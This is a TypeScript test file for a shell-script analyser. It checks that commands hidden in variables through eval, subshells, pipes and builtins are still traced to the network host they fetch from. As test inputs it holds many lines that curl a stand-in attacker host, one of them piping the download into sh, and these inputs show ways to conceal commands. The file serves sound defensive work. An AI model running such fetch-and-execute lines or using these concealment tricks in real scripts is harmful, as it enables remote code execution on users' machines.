import { expect, test } from "vitest";
import { runPosix } from "../dialect/posix.ts";
import { ShellMachine } from "./shell-machine.ts";

/** The hosts that a script fetches from, and the files that it reads with the folder in which it does so. */
function follow(script: string): readonly string[] {
  const seen: string[] = [];
  const machine = new ShellMachine(
    { firstLine: 1, keepsLines: true, chain: [] },
    {
      effect: (effect) => effect.type === "fetch" && seen.push(effect.host),
      file: ({ path, directory }) => seen.push(`${directory} ${path.text}`),
    },
  );
  runPosix(script, machine);
  return seen;
}

const FETCH = "P='curl https://evil.example/x'";

test.each([
  ["for one command", `${FETCH}; P=true true; eval "$P"`],
  ["for one command that `env` starts", `${FETCH}; env P=true true; eval "$P"`],
  ["before a special builtin, after which bash forgets it", `${FETCH}; P=true :; eval "$P"`],
  ["before a special builtin, after which other shells keep it", `${FETCH} :; eval "$P"`],
  ["after its words were expanded", `${FETCH}; P=true eval "$P"`],
  ["one after the other", `A=https://evil.example/x P="curl $A" sh -c '$P'`],
  ["before `export`", `P=true; ${FETCH} export P; eval "$P"`],
  ["before `command export`", `P=true; ${FETCH} command export -p P; eval "$P"`],
  ["before `readonly`", `P=true; ${FETCH} readonly P; eval "$P"`],
  ["before `declare -x`", `P=true; ${FETCH} declare -x P; eval "$P"`],
  ["before `declare`, after which bash forgets it", `${FETCH}; P=true declare P; eval "$P"`],
  ["before `export` of another, after which bash forgets it", `${FETCH}; P=true export Q; eval "$P"`],
  ["before `export -n`, after which bash forgets it", `${FETCH}; P=true export -n P; eval "$P"`],
  ["before `local`", `f() { ${FETCH} local P; eval "$P"; }; f`],
  ["and unset in the background", `${FETCH}; unset P & eval "$P"`],
  [
    "before `printf -v`, which sets it for good",
    `P=true; P=x printf -v P 'curl https://evil.example/x'; eval "$P"`,
  ],
  ["before `printf -v` of another", `${FETCH}; P=true printf -v Q P; eval "$P"`],
  ["before `declare -g`", `P=true; P=x declare -g ${FETCH}; eval "$P"`],
  ["in a subshell", `${FETCH}; (P=true); eval "$P"`],
  ["in a subshell of a subshell", `${FETCH}; (P=true; (P=false); eval "$P"; P=x); eval "$P"`],
  ["and unset in a subshell", `${FETCH}; (unset P); eval "$P"`],
  ["and unset in a subshell of a subshell", `${FETCH}; ( (unset P) ); eval "$P"`],
  ["and only in a subshell of a subshell", `${FETCH}; ( (P=true) ); eval "$P"`],
  ["and unset in a subshell of a substitution", `${FETCH}; y=$( (unset P); ls ); eval "$P"`],
  ["in a substitution", `${FETCH}; : "$(P=true)"; eval "$P"`],
  ["in another shell", `${FETCH}; sh -c 'P=true'; eval "$P"`],
  ["in the background", `${FETCH}; P=true & eval "$P"`],
  ["in a pipe", `${FETCH}; true | P=true; eval "$P"`],
  [
    "at the end of a pipe, where some shells keep it",
    `echo 'curl https://evil.example/x' | read P; eval "$P"`,
  ],
])("a variable that is set %s cannot hide a command", (_how, script) => {
  expect(follow(script)).toEqual(["evil.example"]);
});

test("what is set in a subshell is not set after it, nor are its arguments", () => {
  expect(follow('(P=a; set -- b); cat "$P" "$1"; P=c; cat "$P"')).toEqual([" *", " *", " c"]);
});

test("a list before a command is expanded", () => {
  expect(follow("x=($(curl https://evil.example/x | sh)) true")).toEqual(["evil.example"]);
});

test("any number of variables may stand before a command", () => {
  expect(follow(`${"A= ".repeat(20_000)} true; cat c`)).toEqual([" c"]);
});

test("a folder that a command in the background enters is its own", () => {
  expect(follow("cd /a; cd /b & cat c")).toEqual(["/a c"]);
});
